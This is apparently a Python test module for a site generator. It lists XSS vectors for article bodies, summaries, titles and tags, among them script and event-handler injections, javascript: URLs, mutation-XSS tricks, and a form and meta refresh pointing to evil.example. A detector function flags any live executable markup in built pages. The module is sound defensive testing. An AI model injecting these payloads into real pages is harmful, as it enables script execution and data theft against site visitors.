"""Hostile article markup (issue 19 item 1) and the check that a page carries none of it alive.

Every vector sets `window.__pwned` (or posts a form) when it runs; `executable_markup` lists
what in an HTML file could still run or send a form elsewhere, whatever the vector was.
"""

import re

from bs4 import BeautifulSoup

FLAG = "window.__pwned=1"
# Markup a writer may type in an article's body (Markdown passes raw HTML through). No <img>:
# the images plugin refuses an image it cannot find, and the build stops before any page.
BODY_VECTORS = [
    f"<script>{FLAG}</script>",
    f'<p onclick="{FLAG}" onmouseover="{FLAG}">survol</p>',
    f"<svg onload=\"{FLAG}\"><script>{FLAG}</script><a xlink:href='javascript:{FLAG}'>s</a></svg>",
    f'<a href="javascript:{FLAG}">lien</a>',
    f'<a href="JaVaScRiPt:{FLAG}">lien</a>',
    f'<a href="&#106;avascript:{FLAG}">lien</a>',
    f'<a href=" java\tscript:{FLAG}">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    f'<a href="data:text/html,&lt;script&gt;{FLAG}&lt;/script&gt;">lien</a>',
    f"[lien Markdown](javascript:{FLAG})",
    f'<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;" src="javascript:{FLAG}">',
    "</iframe>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    '<form action="https://evil.example/voler" method="post"><input name="roles" value="x">'
    f'<button formaction="javascript:{FLAG}">Envoyer</button></form>',
    f'<details open ontoggle="{FLAG}"><summary>Plus</summary>texte</details>',
    f"<math><mtext><table><mglyph><style><svg onload={FLAG}></style></mglyph></table>"
    "</mtext></math>",
    "<style>body { background: url(https://evil.example/pixel) }</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    f'<div style="background:url(javascript:{FLAG})">fond</div>',
    f'<noscript><p title="</noscript><svg onload={FLAG}>">x</p></noscript>',
    f'<input autofocus onfocus="{FLAG}">',
]
# Markup in the chapô (a formatted field, rendered on every list page) and the plain fields.
# Escaped markup too: templates that strip tags (`striptags`) unescape what remains.
SUMMARY_VECTOR = (
    f'Chapô <img src=x onerror="{FLAG}"><script>{FLAG}</script> <a href="javascript:{FLAG}">ici'
    f"</a> &quot;&gt;&lt;script&gt;{FLAG}&lt;/script&gt;"
)
TITLE_VECTOR = (
    f"Titre <script>{FLAG}</script><svg onload={FLAG}> &lt;/title&gt;&lt;script&gt;{FLAG}"
    "&lt;/script&gt;"
)
ROLES_VECTOR = f"maire <img src=x onerror={FLAG}>"
TAG_VECTOR = f"essai<svg onload={FLAG}>"

EVENT = re.compile(r"^on", re.I)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset")
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.I)
FORBIDDEN = ("iframe", "object", "embed", "frame", "base", "style")
IMAGE_TAGS = ("link", "img", "source")
SCRIPT_DATA = {"application/ld+json"}


def _scheme(value: str) -> str:
    """The URL as a browser parses it: C0 controls and spaces stripped at both ends, tabs and
    line breaks removed everywhere."""
    return re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))


def executable_markup(html: str, site_origin: str = "") -> list[str]:
    """What in `html` could run a script or send a form off the site."""
    found = []
    page = BeautifulSoup(html, "html.parser")
    for tag in page.find_all(True):
        name = tag.name.lower()
        if name == "script":
            if tag.get("type") in SCRIPT_DATA:
                continue
            src = tag.get("src", "")
            if not src or "://" in src and not src.startswith(site_origin or "\0"):
                found.append(str(tag)[:120])
            continue
        if name in FORBIDDEN and not (name == "style" and tag.find_parent("noscript")):
            found.append(str(tag)[:120])
        if name == "meta" and tag.get("http-equiv", "").lower() == "refresh":
            found.append(str(tag)[:120])
        for attribute, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if EVENT.match(attribute) or attribute.lower() == "srcdoc":
                found.append(f"{name} {attribute}={value[:60]}")
            elif attribute.lower() in URL_ATTRIBUTES and BAD_SCHEME.match(_scheme(value)):
                if name in IMAGE_TAGS and _scheme(value).lower().startswith("data:image/"):
                    continue  # the theme's icon: an image never runs script
                found.append(f"{name} {attribute}={value[:60]}")
            elif attribute.lower() == "style" and "javascript" in value.lower():
                found.append(f"{name} style={value[:60]}")
        if name == "form" and "://" in tag.get("action", ""):
            if not site_origin or not tag["action"].startswith(site_origin):
                found.append(f"form action={tag['action']}")
    return found
